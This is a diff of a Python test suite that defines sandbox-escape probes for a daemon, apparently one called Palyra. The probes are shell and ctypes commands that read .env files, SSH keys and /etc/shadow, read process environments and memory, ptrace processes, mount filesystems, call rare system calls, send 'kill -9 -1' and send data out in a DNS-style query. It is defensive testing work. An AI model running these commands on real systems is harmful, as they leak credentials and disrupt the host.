@@ -3,25 +3,43 @@
 Nothing here may do harm where a wall is missing: kernel files are opened and not written, and bombs are small.
 """
 
-from typing import NamedTuple
+from typing import Literal, NamedTuple
 
-_SYSCALLS = """python3 - <<'E'
+_SYSCALL = """
 import ctypes, errno, os, platform
 libc = ctypes.CDLL(None, use_errno=True)
-column = 0 if platform.machine() == "x86_64" else 1
-for name, numbers in {calls}.items():
-    ctypes.set_errno(0)
-    # Every pointer is bad: a call that is let through fails with another error than a refusal.
-    result = libc.syscall(numbers[column], *([-1] * 6))
-    if ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
-        print("ESCAPED", name, result, os.strerror(ctypes.get_errno()))
-E"""
+number = NUMBERS[0 if platform.machine() == "x86_64" else 1]
+# Every pointer is bad: a call that is let through fails with another error than a refusal.
+result = libc.syscall(number, *([-1] * 6))
+if ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
+    print("ESCAPED", result, os.strerror(ctypes.get_errno()))
+"""
+_CALLS = {
+    "bpf": (321, 280),
+    "clock_settime": (227, 112),
+    "fsopen": (430, 430),
+    "init_module": (175, 105),
+    "io_uring_setup": (425, 425),
+    "kcmp": (312, 272),
+    "kexec_load": (246, 104),
+    "name_to_handle_at": (303, 264),
+    "open_tree": (428, 428),
+    "perf_event_open": (298, 241),
+    "pidfd_getfd": (438, 438),
+    "process_vm_readv": (310, 270),
+    "reboot": (169, 142),
+    "request_key": (249, 218),
+    "setns": (308, 268),
+    "swapon": (167, 224),
+    "userfaultfd": (323, 282),
+}
 
 
 class Attempt(NamedTuple):
     command: str
-    # Whether it gets through without a sandbox, so that the attempt itself is known to be a good one. Only where that is safe.
-    works_bare: bool = False
+    # Whether it gets through without a sandbox, so that the attempt itself is known to be a good one: for anybody, or only for a
+    # root with all capabilities. False where that would do harm, or where it depends on the machine.
+    works_bare: bool | Literal["root"] = False
 
 
 def python(code: str) -> str:
@@ -37,37 +55,43 @@ FILES = {
     "a hard link to a hidden file": Attempt("ln .env copy && cat copy", works_bare=True),
     "reading hidden files": Attempt("cat .env conf/.env.production conf/server.pem .ssh/id_ed25519", works_bare=True),
     "moving what is above a hidden file": Attempt("mv conf conf2; cat conf2/.env.production", works_bare=True),
-    "moving a hidden file": Attempt("mv .env env; cat env"),
+    "moving a hidden file": Attempt("mv .env env; cat env", works_bare=True),
     "packing the whole workspace": Attempt("tar cf - . | strings", works_bare=True),
     "searching it all": Attempt("grep -ra canary-secret . ..", works_bare=True),
-    "the root of the first process": Attempt("cat /proc/1/root{outside}/secret.txt /proc/self/root{outside}/secret.txt"),
+    "the root of a process": Attempt("cat /proc/1/root{outside}/secret.txt /proc/self/root{outside}/secret.txt", works_bare=True),
     "the working folder of another process": Attempt(
         "for p in /proc/[0-9]*; do cat $p/cwd/../outside/secret.txt; done", works_bare=True
     ),
     "descriptors that were left open": Attempt(
-        "for f in /proc/self/fd/*; do case $(readlink $f) in *palyra*home*) echo ESCAPED;; esac; done"
+        "for f in /proc/self/fd/*; do case $(readlink $f) in *palyra*home*) echo ESCAPED;; esac; done", works_bare=True
     ),
     "files by handle": Attempt(
         python(
             """
 import ctypes, os, struct
 libc = ctypes.CDLL(None, use_errno=True)
-mount = os.open(".", os.O_RDONLY)
-for inode in range(1, 200):
-    handle = ctypes.create_string_buffer(struct.pack("=iiQ", 8, 1, inode))
-    if libc.open_by_handle_at(mount, handle, 0) >= 0:
-        print("ESCAPED")
-        break
+handle, mount = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128)), ctypes.c_int()
+libc.name_to_handle_at(-100, b"plain.txt", handle, ctypes.byref(mount), 0)
+if libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, 0) >= 0:
+    print("ESCAPED")
 """
-        )
+        ),
+        works_bare="root",
     ),
-    "writing the policies": Attempt("echo 'permit(principal,action,resource);' > {home}/policies/evil.cedar && echo ESCAPED"),
-    "writing the journal": Attempt("echo x >> {home}/journal.db && echo ESCAPED"),
+    "writing the policies": Attempt(
+        "echo 'permit(principal,action,resource);' > {home}/policies/evil.cedar && echo ESCAPED", works_bare=True
+    ),
+    "writing the journal": Attempt("echo x >> {home}/journal.db && echo ESCAPED", works_bare=True),
     "listing the daemon's home": Attempt("ls {home} && echo ESCAPED", works_bare=True),
-    "writing the system": Attempt("touch /usr/x /etc/x /bin/x /x /opt/x && echo ESCAPED; ls /usr/x /etc/x && echo ESCAPED"),
-    "reading accounts": Attempt("cat /etc/shadow && echo ESCAPED"),
-    "git's hooks and settings": Attempt("echo x > .git/hooks/post-commit && echo ESCAPED; echo x > .git/config && echo ESCAPED"),
-    "another .git in its place": Attempt("mv .git old && mkdir -p .git/hooks && echo ESCAPED"),
+    # Opened for appending, with nothing appended: that changes nothing even where it succeeds.
+    "writing the system": Attempt(
+        "for f in /etc/passwd /etc/services /usr/lib/os-release; do (: >> $f) && echo ESCAPED $f; done", works_bare="root"
+    ),
+    "reading accounts": Attempt("cat /etc/shadow >/dev/null && echo ESCAPED", works_bare="root"),
+    "git's hooks and settings": Attempt(
+        "echo x > .git/hooks/post-commit && echo ESCAPED; echo x > .git/config && echo ESCAPED", works_bare=True
+    ),
+    "another .git in its place": Attempt("mv .git old && mkdir -p .git/hooks && echo ESCAPED", works_bare=True),
     "the shared memory of the host": Attempt("cat /dev/shm/{name} && echo ESCAPED", works_bare=True),
 }
 
@@ -75,15 +99,21 @@ KERNEL = {
     # Opened for appending, with nothing appended: that changes no setting even where it succeeds.
     "kernel settings": Attempt(
         "for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/overcommit_memory /proc/sysrq-trigger; "
-        "do (: >> $f) && echo ESCAPED $f; done"
+        "do (: >> $f) && echo ESCAPED $f; done",
+        works_bare="root",
+    ),
+    "the groups that hold the limits": Attempt(
+        "for f in $(find /sys/fs/cgroup /proc/self/cgroup/.. -name cgroup.procs | head -3); do (: >> $f) && echo ESCAPED; done",
+        works_bare="root",
     ),
     "the kernel's tree": Attempt("ls /sys/kernel && echo ESCAPED", works_bare=True),
     "memory of the machine": Attempt("head -c1 /proc/kcore && echo ESCAPED; head -c1 /dev/mem && echo ESCAPED"),
     "disks": Attempt("for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/loop0; do head -c1 $d && echo ESCAPED; done"),
-    "a device file": Attempt("mknod disk b 254 0 && echo ESCAPED; mknod null c 1 3 && echo ESCAPED"),
+    "a device file": Attempt("mknod disk b 254 0 && echo ESCAPED; mknod null c 1 3 && echo ESCAPED", works_bare="root"),
     "mounting": Attempt(
-        "mount -t tmpfs none /tmp && echo ESCAPED; mount -o remount,rw /usr && echo ESCAPED; umount .env && echo ESCAPED"
+        "mkdir m; mount -t tmpfs none m && echo ESCAPED && umount m; umount .env && echo ESCAPED", works_bare="root"
     ),
+    "making the system writable again": Attempt("mount -o remount,rw /usr && echo ESCAPED; mount -o remount,rw / && echo ESCAPED"),
     "a new user namespace": Attempt("unshare -Ur id && echo ESCAPED; unshare -m true && echo ESCAPED", works_bare=True),
     "a new namespace by clone": Attempt(
         python(
@@ -99,8 +129,10 @@ print("ESCAPED" if pid > 0 else "refused")
         ),
         works_bare=True,
     ),
-    "entering a namespace": Attempt("nsenter -t 1 -m true && echo ESCAPED; nsenter -t 1 -p true && echo ESCAPED"),
-    "changing the root": Attempt("chroot . /bin/true && echo ESCAPED; pivot_root . . && echo ESCAPED"),
+    "entering a namespace": Attempt(
+        "nsenter -t 1 -m true && echo ESCAPED; nsenter -t 1 -p true && echo ESCAPED", works_bare="root"
+    ),
+    "changing the root": Attempt("chroot / /bin/true && echo ESCAPED; pivot_root . . && echo ESCAPED", works_bare="root"),
     "the keyring": Attempt(
         python(
             """
@@ -115,41 +147,38 @@ print("ESCAPED" if key > 0 or joined > 0 else "refused")
         ),
         works_bare=True,
     ),
-    "rare system calls": Attempt(
-        _SYSCALLS.replace(
-            "{calls}",
-            '{{"bpf": (321, 280), "userfaultfd": (323, 282), "perf_event_open": (298, 241), "kexec_load": (246, 104), '
-            '"init_module": (175, 105), "io_uring_setup": (425, 425), "fsopen": (430, 430), "open_tree": (428, 428), '
-            '"process_vm_readv": (310, 270), "pidfd_getfd": (438, 438), "setns": (308, 268), "swapon": (167, 224), '
-            '"reboot": (169, 142), "kcmp": (312, 272), "name_to_handle_at": (303, 264), "request_key": (249, 218)}}',
-        )
-    ),
 }
 
 PROCESSES = {
-    "the daemon's environment": Attempt("cat /proc/*/environ | tr '\\0' '\\n'; env; set"),
-    "another process's environment by number": Attempt("cat /proc/{pid}/environ; cat /proc/{pid}/maps && echo ESCAPED"),
-    "a signal to the daemon": Attempt("kill -9 {pid} && echo ESCAPED; kill -0 {pid} && echo ESCAPED"),
+    "the daemon's environment": Attempt("cat /proc/*/environ | tr '\\0' '\\n'; env; set", works_bare=True),
+    "another process's environment by number": Attempt(
+        "cat /proc/{pid}/environ; cat /proc/{pid}/maps && echo ESCAPED", works_bare=True
+    ),
+    "a signal to a process of the host": Attempt("kill -0 {pid} && echo ESCAPED; kill -9 {pid} && echo ESCAPED", works_bare=True),
     "a signal to everybody": Attempt("kill -9 -1; echo ESCAPED-NOT"),
-    "tracing the first process": Attempt(
+    "tracing another process": Attempt(
         python(
             """
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
-for pid in (1, os.getppid(), {pid}):
-    if libc.ptrace(16, pid, 0, 0) == 0:
+# Seizing stops nobody.
+for pid in (os.getppid(), {pid}):
+    if libc.ptrace(0x4206, pid, 0, 0) == 0:
         print("ESCAPED")
 """
-        )
+        ),
+        works_bare="root",
     ),
-    "memory of another process": Attempt("for p in 1 {pid}; do (: < /proc/$p/mem) && [ $p != 1 ] && echo ESCAPED; done"),
+    "memory of another process": Attempt("(: < /proc/{pid}/mem) && echo ESCAPED", works_bare=True),
+    "writing the memory of the first process": Attempt("(: >> /proc/1/mem) && echo ESCAPED", works_bare="root"),
     "root by a setuid program": Attempt(
         "for p in $(find /usr -perm -4000 2>/dev/null); do :; done; su -c 'echo ESCAPED' </dev/null; "
         "cp /usr/bin/id i && chmod 6755 i && ./i -u | grep -qx 0 && echo ESCAPED; "
-        "grep -q 'NoNewPrivs:.1' /proc/self/status || echo ESCAPED"
+        "grep -q 'NoNewPrivs:.1' /proc/self/status || echo ESCAPED",
+        works_bare="root",
     ),
-    "capabilities": Attempt("grep Cap /proc/self/status | grep -v '0000000000000000' && echo ESCAPED"),
-    "a preloaded library": Attempt("env | grep LD_ && echo ESCAPED; grep preload /proc/self/maps && echo ESCAPED"),
+    "capabilities": Attempt("grep Cap /proc/self/status | grep -v '0000000000000000' && echo ESCAPED", works_bare=True),
+    "a preloaded library": Attempt("env | grep LD_ && echo ESCAPED; grep preload /proc/self/maps && echo ESCAPED", works_bare=True),
     "typing into the terminal": Attempt(
         python(
             """
@@ -163,13 +192,17 @@ for name in ("/dev/tty", "/dev/stdin", "/dev/pts/0"):
 """
         )
     ),
-    "a core dump": Attempt("ulimit -c unlimited && echo ESCAPED; sh -c 'kill -SEGV $$'; ls core* && echo ESCAPED"),
-    "raising a limit": Attempt("ulimit -n 1000000 && echo ESCAPED; ulimit -f unlimited && echo ESCAPED"),
+    "a core dump": Attempt(
+        "ulimit -c unlimited && echo ESCAPED; sh -c 'kill -SEGV $$'; ls core* && echo ESCAPED", works_bare="root"
+    ),
+    "raising a limit": Attempt("ulimit -n 1000000 && echo ESCAPED; ulimit -f unlimited && echo ESCAPED", works_bare=True),
 }
 
 NETWORK = {
     "a server on loopback": Attempt("exec 3<>/dev/tcp/127.0.0.1/{port}; echo GET / >&3; cat <&3", works_bare=True),
-    "the same by another name": Attempt("for h in localhost 0.0.0.0 127.1 ::1; do exec 3<>/dev/tcp/$h/{port} && cat <&3; done"),
+    "the same by another name": Attempt(
+        "for h in localhost 0.0.0.0 127.1 ::1; do exec 3<>/dev/tcp/$h/{port} && cat <&3; done", works_bare=True
+    ),
     "a Unix socket": Attempt(
         python('import socket; s = socket.socket(socket.AF_UNIX); s.connect("{outside}/socket"); print(s.recv(99))'),
         works_bare=True,
@@ -180,21 +213,21 @@ NETWORK = {
     "sockets of the host's services": Attempt(
         "ls /var/run/docker.sock /run/dbus/system_bus_socket /tmp/.X11-unix /run/systemd/private && echo ESCAPED"
     ),
-    "asking a name server": Attempt(
+    "data in a question to a name server": Attempt(
         python(
             """
 import socket
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-for server in ("192.0.2.53", "127.0.0.53"):
+s.settimeout(2)
+for server in ("127.0.0.1", "127.0.0.53"):
     try:
-        s.sendto(b"data.example.org", (server, 53))
-        s.settimeout(0.2)
-        s.recv(9)
-        print("ESCAPED")
+        s.sendto(b"stolen-data.example.org", (server, {udp}))
+        print(s.recv(99))
     except OSError as error:
         print("refused", error)
 """
-        )
+        ),
+        works_bare=True,
     ),
     "looking up a name": Attempt(
         "getent hosts example.org && echo ESCAPED; cat /etc/resolv.conf | grep nameserver && echo ESCAPED"
@@ -218,4 +251,6 @@ for family, kind in ((2, 3), (10, 3), (17, 3), (17, 2), (40, 1), (38, 5), (29, 3
     ),
 }
 
-ALL = {**FILES, **KERNEL, **PROCESSES, **NETWORK}
+CALLS = {f"the system call {name}": Attempt(python(_SYSCALL.replace("NUMBERS", str(numbers)))) for name, numbers in _CALLS.items()}
+
+ALL = {**FILES, **KERNEL, **CALLS, **PROCESSES, **NETWORK}
